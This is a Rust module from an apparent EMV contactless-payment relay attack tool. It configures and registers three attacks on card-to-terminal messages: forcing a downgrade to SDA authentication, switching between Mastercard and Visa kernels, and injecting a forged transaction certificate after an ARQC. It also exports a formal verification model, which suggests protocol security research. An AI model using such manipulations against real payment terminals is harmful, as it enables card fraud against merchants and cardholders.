//! The three manipulation flows, as interceptors for the relay pipeline, and the
//! trigger conditions under which each of them fires.

use log::info;
use serde::{Deserialize, Serialize};
use std::sync::Arc;

use crate::apdu::{ApduMessage, CommandClass};
use crate::error::{RelayError, Result};
use crate::kernel::AuthMethod;
use crate::relay::RelayPipeline;
use crate::session::{TrackerEvent, TransactionState, TRANSITIONS};
use crate::Direction;

mod cross_kernel;
mod downgrade;
mod state_confusion;

pub use cross_kernel::CrossKernelSwitch;
pub use downgrade::AuthDowngrade;
pub use state_confusion::StateConfusion;

#[derive(Serialize, Deserialize, Debug, Clone)]
pub struct AuthDowngradeSettings {
    pub enabled: bool,
    pub forced_method: AuthMethod,
}

impl Default for AuthDowngradeSettings {
    fn default() -> Self {
        AuthDowngradeSettings {
            enabled: true,
            forced_method: AuthMethod::Sda,
        }
    }
}

#[derive(Serialize, Deserialize, Debug, Clone)]
pub struct StateConfusionSettings {
    pub enabled: bool,
    /// Delay of the forged TC after the ARQC was relayed.
    pub delay_ms: u64,
}

impl Default for StateConfusionSettings {
    fn default() -> Self {
        StateConfusionSettings {
            enabled: false,
            delay_ms: 15,
        }
    }
}

#[derive(Serialize, Deserialize, Debug, Clone)]
pub struct CrossKernelSettings {
    pub enabled: bool,
    pub initial_scheme: String,
    pub target_scheme: String,
    /// `Gpo` or `ReadRecord`
    pub switch_point: CommandClass,
}

impl Default for CrossKernelSettings {
    fn default() -> Self {
        CrossKernelSettings {
            enabled: false,
            initial_scheme: "mastercard".to_string(),
            target_scheme: "visa".to_string(),
            switch_point: CommandClass::Gpo,
        }
    }
}

#[derive(Serialize, Deserialize, Debug, Clone, Default)]
pub struct AttackSettings {
    #[serde(default)]
    pub auth_downgrade: AuthDowngradeSettings,
    #[serde(default)]
    pub state_confusion: StateConfusionSettings,
    #[serde(default)]
    pub cross_kernel: CrossKernelSettings,
}

/// When an attack applies: the message it acts on and the shadow states the
/// transaction may be in at that point.
#[derive(Serialize, Debug, Clone, Copy, PartialEq, Eq)]
pub struct AttackTrigger {
    pub attack: &'static str,
    pub command_class: CommandClass,
    pub direction: Direction,
    pub states: &'static [TransactionState],
    pub condition: &'static str,
}

impl AttackTrigger {
    /// Message and state part of the trigger. The content condition is checked by the
    /// attack itself.
    pub fn applies(&self, message: &ApduMessage, state: TransactionState) -> bool {
        message.command_class() == self.command_class
            && message.direction() == self.direction
            && message.is_success()
            && self.states.contains(&state)
    }
}

pub const AUTH_DOWNGRADE: AttackTrigger = AttackTrigger {
    attack: downgrade::NAME,
    command_class: CommandClass::Gpo,
    direction: Direction::CardToTerminal,
    states: &[TransactionState::AppSelected],
    condition: "AIP announces an authentication method other than the forced one",
};

pub const CROSS_KERNEL_AT_GPO: AttackTrigger = AttackTrigger {
    attack: cross_kernel::NAME,
    command_class: CommandClass::Gpo,
    direction: Direction::CardToTerminal,
    states: &[TransactionState::AppSelected],
    condition: "selected AID resolves to the initial scheme and the target scheme is registered",
};

pub const CROSS_KERNEL_AT_READ_RECORD: AttackTrigger = AttackTrigger {
    attack: cross_kernel::NAME,
    command_class: CommandClass::ReadRecord,
    direction: Direction::CardToTerminal,
    states: &[TransactionState::AppSelected],
    condition: "selected AID resolves to the initial scheme and the target scheme is registered",
};

pub const STATE_CONFUSION: AttackTrigger = AttackTrigger {
    attack: state_confusion::NAME,
    command_class: CommandClass::GenerateAc,
    direction: Direction::CardToTerminal,
    states: &[TransactionState::AppSelected],
    condition: "card answers GENERATE AC with an ARQC and no authorization was requested before",
};

pub const ATTACK_TRIGGERS: &[AttackTrigger] = &[
    AUTH_DOWNGRADE,
    CROSS_KERNEL_AT_GPO,
    CROSS_KERNEL_AT_READ_RECORD,
    STATE_CONFUSION,
];

#[derive(Serialize, Debug, Clone, PartialEq, Eq)]
pub struct ModelTransition {
    pub from: TransactionState,
    pub event: TrackerEvent,
    pub to: TransactionState,
}

/// Transition table and attack triggers in a form a verification model can be
/// generated from.
#[derive(Serialize, Debug, Clone)]
pub struct FormalModel {
    pub states: Vec<TransactionState>,
    pub initial_state: TransactionState,
    pub terminal_states: Vec<TransactionState>,
    pub transitions: Vec<ModelTransition>,
    pub triggers: Vec<AttackTrigger>,
    /// Observation that signals a successful state confusion.
    pub detection: &'static str,
}

impl FormalModel {
    pub fn derive() -> FormalModel {
        FormalModel {
            states: TransactionState::ALL.to_vec(),
            initial_state: TransactionState::Idle,
            terminal_states: TransactionState::ALL
                .iter()
                .copied()
                .filter(|state| state.is_terminal())
                .collect(),
            transitions: TRANSITIONS
                .iter()
                .map(|(from, event, to)| ModelTransition {
                    from: *from,
                    event: *event,
                    to: *to,
                })
                .collect(),
            triggers: ATTACK_TRIGGERS.to_vec(),
            detection: "one session reaches Authorized from both an Online and an Offline source",
        }
    }

    pub fn to_yaml(&self) -> Result<String> {
        Ok(serde_yaml::to_string(self)?)
    }
}

/// Registers every enabled attack with `pipeline`. Cross-kernel runs first; a response
/// it synthesizes keeps the target scheme's AIP and is not downgraded.
pub fn install(pipeline: &mut RelayPipeline, settings: &AttackSettings) -> Result<()> {
    if settings.cross_kernel.enabled {
        let attack = CrossKernelSwitch::new(&settings.cross_kernel, pipeline.kernels())?;
        pipeline.register(
            settings.cross_kernel.switch_point,
            Direction::CardToTerminal,
            Arc::new(attack),
        )?;
        info!(
            "Cross-kernel switch {} -> {} at {:?}",
            settings.cross_kernel.initial_scheme,
            settings.cross_kernel.target_scheme,
            settings.cross_kernel.switch_point
        );
    }

    if settings.auth_downgrade.enabled {
        pipeline.register(
            CommandClass::Gpo,
            Direction::CardToTerminal,
            Arc::new(AuthDowngrade::new(settings.auth_downgrade.forced_method)),
        )?;
        info!(
            "Authentication downgrade to {}",
            settings.auth_downgrade.forced_method
        );
    }

    if settings.state_confusion.enabled {
        if settings.state_confusion.delay_ms == 0 {
            return Err(RelayError::Configuration(
                "state confusion needs a non-zero delay".to_string(),
            ));
        }
        pipeline.register(
            CommandClass::GenerateAc,
            Direction::CardToTerminal,
            Arc::new(StateConfusion::new(&settings.state_confusion)),
        )?;
        info!(
            "State confusion with a forged TC after {} ms",
            settings.state_confusion.delay_ms
        );
    }

    Ok(())
}
